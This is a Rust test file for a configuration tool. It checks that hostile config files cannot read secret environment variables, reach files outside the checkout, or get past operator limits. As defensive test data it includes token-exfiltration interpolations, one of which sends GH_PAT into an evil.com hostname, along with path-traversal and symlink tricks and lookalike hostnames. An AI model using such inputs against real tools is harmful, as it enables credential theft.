//! Attacks through files: the real program over a socket that counts requests. Each attack fails before anything is sent, and no message
//! shows a secret. Also operator limits, which files and flags cannot exceed.

use std::fs;
use std::os::unix::fs::symlink;

use riskform::sandbox::Settings;
use tempfile::TempDir;

use crate::riskform::{Run, SandboxServer, TestDir};

const HEAD: &str = "version: 1\naccount_id: 023e105f4ecef8ad9ca31a8372d0c353\n";

/// An untrusted checkout with files and symlinks, next to private files. The environment contains secrets.
fn attacked(server: &SandboxServer, files: &[(&str, &str)], links: &[(&str, &str)]) -> TestDir {
    let mut workplace = TestDir::with(server);
    for name in [
        "GH_PAT",
        "GITHUB_TOKEN",
        "CI_REPOSITORY_URL",
        "DOCKER_AUTH_CONFIG",
        "SLACK_WEBHOOK_URL",
        "MY_ACCOUNT_ID_TOKEN",
        "RISKFORM_VAR_SECRET",
    ] {
        workplace.set(name, "very-private");
    }
    workplace.set("RISKFORM_NOTIFY_SECRET", "very-private");
    workplace.set("HTTPS_PROXY", "http://very-private.example:3128");
    let foreign = "version: 1\nname: very-private\n";
    for (path, text) in [
        ("home/creds.yaml", foreign),
        (
            "repo/.git/config",
            "[remote]\n\turl = https://very-private@example.com\n",
        ),
    ]
    .iter()
    .chain(files)
    {
        let path = workplace.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    for (link, target) in links {
        symlink(target, workplace.path(link)).unwrap();
    }
    workplace
}

fn assert_nothing_shown(what: &str, run: &Run) {
    let Run { stdout, stderr, .. } = run;
    assert!(
        !stdout.contains("very-private") && !stderr.contains("very-private"),
        "{what}:\n{stdout}\n{stderr}"
    );
}

#[test]
fn a_file_reads_no_variable_and_no_file_of_its_choice() {
    let okta = |fields: &str| {
        format!("{HEAD}integrations:\n  a: {{ tenant_url: https://a.okta.com, {fields} }}\n")
    };
    let tenant = |url: &str| format!("{HEAD}integrations:\n  a: {{ tenant_url: \"{url}\" }}\n");
    let table: Vec<(&str, String, &[(&str, &str)], &str)> = vec![
        (
            "a token",
            okta("reference_id: \"${GH_PAT}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "a URL with credentials",
            okta("reference_id: \"${CI_REPOSITORY_URL}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "registry credentials",
            okta("reference_id: \"${DOCKER_AUTH_CONFIG}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "a proxy's",
            okta("reference_id: \"${HTTPS_PROXY}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "what signs notifications",
            okta("reference_id: \"${RISKFORM_NOTIFY_SECRET}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "where notifications go, silent where it is not set",
            okta("reference_id: \"${RISKFORM_NOTIFY:-r1}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "a webhook",
            okta("reference_id: \"${SLACK_WEBHOOK_URL}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "our own token",
            okta("reference_id: \"${CLOUDFLARE_API_TOKEN}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "one that only begins as if it were",
            okta("reference_id: \"${MY_ACCOUNT_ID_TOKEN}\""),
            &[],
            "forbidden-variable",
        ),
        (
            "a token sent to a host",
            tenant("https://${GH_PAT}.evil.com"),
            &[],
            "forbidden-variable",
        ),
        (
            "a token as a file's name",
            format!("{HEAD}extends: [\"${{GH_PAT}}.yaml\"]\n"),
            &[],
            "interpolation",
        ),
        (
            "another service's token as ours",
            format!("{HEAD}api_token_env: GITHUB_TOKEN\n"),
            &[],
            "variable-name",
        ),
        (
            "any variable as our token",
            format!("{HEAD}api_token_env: PATH\n"),
            &[],
            "variable-name",
        ),
        (
            "a variable's name out of a variable",
            format!("{HEAD}api_token_env: ${{GH_PAT}}\n"),
            &[],
            "interpolation",
        ),
        (
            "a file elsewhere",
            format!("{HEAD}extends: [\"../home/creds.yaml\"]\n"),
            &[],
            "outside-root",
        ),
        (
            "a file elsewhere, through a link",
            format!("{HEAD}extends: [_link.yaml]\n"),
            &[("repo/_link.yaml", "../home/creds.yaml")],
            "outside-root",
        ),
        (
            "a PATH that is a link",
            String::new(),
            &[("repo/riskform.yaml", "../home/creds.yaml")],
            "outside-root",
        ),
        (
            "git's own configuration",
            String::new(),
            &[("repo/riskform.yaml", ".git/config")],
            "outside-root",
        ),
        (
            "a host in letters that look alike",
            tenant("https://сorp.okta.com"),
            &[],
            "tenant-url",
        ),
        (
            "a host with what can't be seen",
            tenant("https://corp\u{3164}.okta.com"),
            &[],
            "control-character",
        ),
        (
            "a host with an escape",
            tenant("https://corp%2eokta.com"),
            &[],
            "tenant-url",
        ),
        (
            "a host with a wide dot",
            tenant("https://corp。okta.com"),
            &[],
            "tenant-url",
        ),
        (
            "a host with a star",
            tenant("https://*.okta.com"),
            &[],
            "tenant-url",
        ),
        (
            "a host with a quote",
            tenant("https://a\\\"b"),
            &[],
            "tenant-url",
        ),
        (
            "a host with port 0",
            tenant("https://a.okta.com:0"),
            &[],
            "tenant-url",
        ),
        (
            "a reference with what can't be seen",
            okta("reference_id: \"a\u{3164}b\""),
            &[],
            "control-character",
        ),
    ];
    let server = SandboxServer::start(Settings::default());
    for (what, text, links, rule) in &table {
        let own = [("repo/riskform.yaml", text.as_str())];
        let files: &[(&str, &str)] = if text.is_empty() { &[] } else { &own };
        let workplace = attacked(&server, files, links);
        for command in [
            &["validate"][..],
            &["plan"],
            &["drift"],
            &["apply", "--auto-approve"],
            &["destroy", "--auto-approve"],
            &["fmt"],
        ] {
            // Files that fmt cannot format are no attack, and fmt shows no values of valid files.
            let run = workplace.run(&[command, &["repo/riskform.yaml"]].concat());
            assert_nothing_shown(what, &run);
            if command != ["fmt"] {
                assert_eq!(run.code, 1, "{what}: {command:?}\n{}", run.stderr);
                let said = run.stdout + &run.stderr;
                assert!(said.contains(rule), "{what}: {rule}\n{said}");
            }
        }
    }
    assert_eq!(server.requests().len(), 0);
}

#[test]
fn fmt_rewrites_nothing_outside_of_the_checkout() {
    let server = SandboxServer::start(Settings::default());
    let untidy = "{version: 1,   name: very-private}\n";
    let links = [
        ("repo/link.yaml", "../home/untidy.yaml"),
        ("repo/deep", "../home"),
    ];
    let workplace = attacked(&server, &[("home/untidy.yaml", untidy)], &links);
    let run = workplace.run(&["fmt", "repo"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_nothing_shown("fmt", &run);
    assert_eq!(workplace.read("home/untidy.yaml"), untidy);
}

/// A limits file outside of the checkout.
fn limits(text: &str) -> (TempDir, String) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("limits.yaml");
    fs::write(&path, format!("version: 1\n{text}")).unwrap();
    let path = path.to_str().unwrap().to_owned();
    (folder, path)
}

#[test]
fn no_file_and_no_flag_gets_past_the_limits() {
    let loose = format!(
        "{HEAD}behaviors: {{}}\nintegrations: {{}}\nunlisted: {{ integrations: delete }}\nguards: {{ max_deletes: 9 }}\n"
    );
    let create = format!("{HEAD}integrations:\n  a: {{ tenant_url: https://a.evil.example }}\n");
    let flags = [
        "--max-deletes",
        "9",
        "--allow-delete-all",
        "--allow-weakening",
    ];
    let table = [
        (
            "guards: { max_deletes: 0 }\n",
            &loose,
            "the operator limit is 0",
        ),
        (
            "guards: { weakening: deny }\n",
            &loose,
            "the limits deny that",
        ),
        (
            "guards: { protected: [\"https://example.oktapreview.com\"] }\n",
            &loose,
            "but https://example.oktapreview.com is protected (by the limits)",
        ),
        (
            "allowed_tenants: [\"*.okta.com\"]\n",
            &create,
            "which --limits does not allow",
        ),
    ];
    let server = SandboxServer::start(Settings::default());
    for (text, file, said) in table {
        let mut workplace = TestDir::with(&server);
        workplace.write("riskform.yaml", file);
        let (_folder, path) = limits(text);
        let by_flag = [&["apply", "--auto-approve", "--limits", &path][..], &flags].concat();
        let run = workplace.run(&by_flag);
        assert_eq!(run.code, 5, "{text}\n{}{}", run.stdout, run.stderr);
        assert!(run.stdout.contains(said), "{said}\n{}", run.stdout);
        workplace.set("RISKFORM_LIMITS", &path);
        let planned = workplace.run(&[&["plan"][..], &flags].concat());
        assert_eq!(
            planned.code, 5,
            "{text}\n{}{}",
            planned.stdout, planned.stderr
        );

        // Limits also apply to a plan that was saved without limits.
        let elsewhere = TestDir::with(&server);
        elsewhere.write("riskform.yaml", file);
        let saved = elsewhere.run(&[&["plan", "--out", "saved.plan"][..], &flags].concat());
        assert_eq!(saved.code, 0, "{text}\n{}{}", saved.stdout, saved.stderr);
        let applied = elsewhere.run(&[
            "apply",
            "--plan",
            "saved.plan",
            "--auto-approve",
            "--limits",
            &path,
        ]);
        assert_eq!(
            applied.code, 5,
            "{text}\n{}{}",
            applied.stdout, applied.stderr
        );
        let shown = applied.stdout + &applied.stderr;
        assert!(shown.contains(said), "{said}\n{shown}");
    }
    assert_eq!(server.writes(), 0);
}

#[test]
fn limits_are_read_as_strictly_as_files_and_stand_elsewhere() {
    let server = SandboxServer::start(Settings::default());
    let workplace = TestDir::with(&server);
    workplace.write("riskform.yaml", HEAD);
    for (text, rule) in [
        ("guard: {}\n", "unknown-key"),
        ("guards: { delete_all: warn }\n", "unknown-value"),
        ("allowed_tenants: [\"https://a.okta.com\"]\n", "tenant-url"),
        // The author of a file can rename an address.
        (
            "guards: { protected: [integration.corp] }\n",
            "limits-protected",
        ),
        ("guards: { protected: [\"one/*\"] }\n", "limits-protected"),
        (
            "guards: { protected: [behavior.high_dlp] }\n",
            "limits-protected",
        ),
        (
            "guards: { protected: [sales.okta.com] }\n",
            "limits-protected",
        ),
        (
            "guards: { protected: [3701e70b-5de4-4d9d-8972-f5aa994d9057, some-reference] }\n",
            "limits-protected",
        ),
        ("allowed_tenants: [\"${HOME}\"]\n", "interpolation"),
        ("variables: [HOME]\n", "unknown-key"),
        ("---\nversion: 1\n", "wrong-type"),
    ] {
        let (_folder, path) = limits(text);
        let run = workplace.run(&["plan", "--limits", &path]);
        assert_eq!(run.code, 1, "{text}\n{}", run.stderr);
        assert!(run.stderr.contains(rule), "{rule}\n{}", run.stderr);
    }
    let gone = workplace.run(&["validate", "--limits", "gone.yaml"]);
    assert_eq!(gone.code, 1, "{}", gone.stderr);
    assert_eq!(server.requests().len(), 0);

    workplace.write("limits.yaml", "version: 1\n");
    let beneath = workplace.run(&["validate", "--limits", "limits.yaml", "riskform.yaml"]);
    assert_eq!(beneath.code, 0, "{}", beneath.stderr);
    let said = beneath.stdout + &beneath.stderr;
    assert!(said.contains("limits-beneath-root"), "{said}");
}
